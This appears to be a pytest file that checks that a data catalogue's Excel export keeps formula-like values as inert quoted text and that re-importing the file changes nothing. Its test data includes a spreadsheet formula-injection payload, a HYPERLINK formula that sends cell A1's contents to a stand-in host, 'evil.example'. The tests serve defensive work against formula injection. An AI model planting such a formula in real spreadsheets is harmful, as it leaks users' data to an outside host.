"""The compile-template export never holds a live formula, and imports read it back exactly."""

from __future__ import annotations

import io
from typing import Any

import pytest
from openpyxl import load_workbook

from shuzhi.catalog import service
from shuzhi.catalog.excel import ENTRY_SHEET, ITEM_SHEET, exporting, text
from shuzhi.catalog.excel import service as excel_service
from shuzhi.catalog.schemas import EntryCreate
from shuzhi.context import Role
from shuzhi.db.engine import Database
from tests.catalog.helpers import entry_data, item
from tests.conftest import acting
from tests.factories import seed_org

HOSTILE_ABSTRACT = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看说明")'
HOSTILE_ITEMS = ["+1+1", "-2+3", "@SUM(1)", "\t=1", "'=1+1"]


def _export(database: Database, actor: Any) -> bytes:
    with acting(database, actor) as ctx:
        return exporting.export_workbook(ctx, None)


def _import(database: Database, actor: Any, content: bytes) -> Any:
    with acting(database, actor) as ctx:
        return excel_service.import_workbook(ctx, content, None, filename="g.xlsx")


def _hostile_entry(database: Database, actor: Any) -> str:
    items = [item(f"字段{i}", description=v) for i, v in enumerate(HOSTILE_ITEMS)]
    data = entry_data(abstract=HOSTILE_ABSTRACT, items=items)
    with acting(database, actor) as ctx:
        return service.create_entry(ctx, EntryCreate.model_validate(data)).resource_code


def test_export_cells_are_inert_text(database: Database) -> None:
    seeded = seed_org(database)
    liaison = seeded.actor(Role.DATA_LIAISON)
    _hostile_entry(database, liaison)
    book = load_workbook(io.BytesIO(_export(database, liaison)))
    entries = book[ENTRY_SHEET]
    at = [c.value for c in entries[1]].index("信息资源摘要")
    abstract = entries.cell(row=2, column=at + 1)
    assert (abstract.value, abstract.data_type, abstract.quotePrefix) == (
        HOSTILE_ABSTRACT,
        "s",
        True,
    )
    headers = [c.value for c in book[ITEM_SHEET][1]]
    column = headers.index("信息项描述")
    written = [r[column] for r in book[ITEM_SHEET].iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in written)
    by_value = {c.value: c.quotePrefix for c in written}
    # Stored as it is, the quote-prefix flag guards it; a value that already starts with a
    # quote before formula text gets one more quote, so the import can tell it apart.
    expected = {"+1+1": True, "-2+3": True, "@SUM(1)": True, "''=1+1": False}
    assert by_value == {**expected, "=1": True}  # the catalogue trims "\t=1" when storing


def test_export_then_import_changes_nothing(database: Database) -> None:
    seeded = seed_org(database)
    liaison = seeded.actor(Role.DATA_LIAISON)
    code = _hostile_entry(database, liaison)
    report = _import(database, liaison, _export(database, liaison))
    assert report.ok, report.errors
    assert report.unchanged == [code] and not report.updated
    with acting(database, liaison) as ctx:
        entry = service.get_entry(ctx, code)
    assert entry.abstract == HOSTILE_ABSTRACT
    assert sorted(i.description for i in entry.items) == sorted(v.strip() for v in HOSTILE_ITEMS)


@pytest.mark.parametrize(
    ("cell", "read"),
    [
        ("'=1+1", "=1+1"),  # a guard quote, as in the platform's CSV downloads
        ("'-2+3", "-2+3"),
        ("''=1", "'=1"),
        ("'-5", "'-5"),  # a quote before a plain number is not a guard
        ("'abc", "'abc"),
        ("=1+1", "=1+1"),
    ],
)
def test_import_drops_only_a_guard_quote(cell: str, read: str) -> None:
    assert text(cell) == read
